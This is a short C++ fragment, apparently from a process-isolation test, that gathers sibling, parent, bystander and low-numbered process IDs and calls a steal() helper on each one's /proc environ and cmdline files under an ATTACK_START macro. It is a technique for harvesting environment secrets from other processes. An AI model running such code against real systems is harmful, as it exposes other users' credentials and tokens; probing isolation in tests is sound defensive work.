static void look() {
    std::vector<pid_t> pids = others();
    pids.push_back(getppid());
    pids.push_back(BYSTANDER);
    for (pid_t pid = 1; pid < 64; ++pid) pids.push_back(pid);
    for (const pid_t pid : pids) {
        const std::string place = "/proc/" + std::to_string(pid);
        steal(place + "/environ", "environ");
        steal(place + "/cmdline", "cmdline");
        steal(place + "/task/" + std::to_string(pid) + "/environ", "task");
    }
}
#define ATTACK_START look()
